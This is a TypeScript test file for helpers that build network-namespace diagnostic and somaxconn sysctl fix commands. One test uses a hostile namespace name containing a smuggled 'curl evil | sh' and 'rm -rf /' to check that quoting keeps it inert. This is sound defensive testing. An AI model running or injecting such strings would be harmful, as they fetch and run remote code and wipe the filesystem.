import { test } from 'node:test';
import assert from 'node:assert/strict';
import { nsCommand, somaxconnFix } from './netns-fix.js';
import type { NetNamespace } from '../../snapshot/types.js';

function ns(over: Partial<NetNamespace>): NetNamespace {
  return {
    inode: 1, kind: 'host', name: 'host', pids: [], socketSource: 'sock_diag', listenerCount: 0, partial: false, notes: [],
    counters: { values: {}, deltas: null, intervalMs: 0 },
    tunables: {
      'net.core.somaxconn': 4096, 'net.ipv4.tcp_max_syn_backlog': 1024, 'net.ipv4.tcp_syncookies': 1, 'net.ipv4.tcp_abort_on_overflow': 0,
      'net.core.netdev_max_backlog': null, 'fs.file-max': null, 'fs.nr_open': null, 'fs.file-nr': null, 'net.ipv4.ip_local_port_range': null,
    },
    ...over,
  };
}

test('fix lines run in the listener namespace: host as is, ip netns exec, nsenter', () => {
  const snapshot = { namespaces: [ns({}), ns({ inode: 2, kind: 'netns', name: 'blue' }), ns({ inode: 3, kind: 'docker', name: 'web', pids: [77], container: { runtime: 'docker', id: 'a'.repeat(64), name: 'web' } })] };
  assert.equal(nsCommand(snapshot, 1, 'ss -ltn'), 'ss -ltn');
  assert.equal(nsCommand(snapshot, 2, 'ss -ltn'), 'ip netns exec blue ss -ltn');
  assert.equal(nsCommand(snapshot, 3, 'ss -ltn'), 'nsenter -n -t 77 ss -ltn');
  assert.deepEqual(somaxconnFix(snapshot, 1, 4096), ['sysctl -w net.core.somaxconn=4096', "echo 'net.core.somaxconn = 4096' > /etc/sysctl.d/90-somaxconn.conf   # keeps it after reboot"]);
  assert.match(somaxconnFix(snapshot, 3, 4096)[0], /^docker run --sysctl net\.core\.somaxconn=4096 \.\.\.   # recreate docker container web \(aaaaaaaaaaaa\)/);
});

test('a hostile namespace name stays one inert word, and cannot end a comment early', () => {
  const evil = "x; curl evil | sh #\n rm -rf /";
  const snapshot = { namespaces: [ns({}), ns({ inode: 2, kind: 'netns', name: evil }), ns({ inode: 3, kind: 'other', name: `netns 3\nrm -rf /` })] };
  assert.equal(nsCommand(snapshot, 2, 'ss -ltn'), "ip netns exec $'x; curl evil | sh #\\x0a rm -rf /' ss -ltn");
  for (const line of [...somaxconnFix(snapshot, 2, 64), ...somaxconnFix(snapshot, 3, 64)]) assert.ok(!line.includes('\n'), line);
});
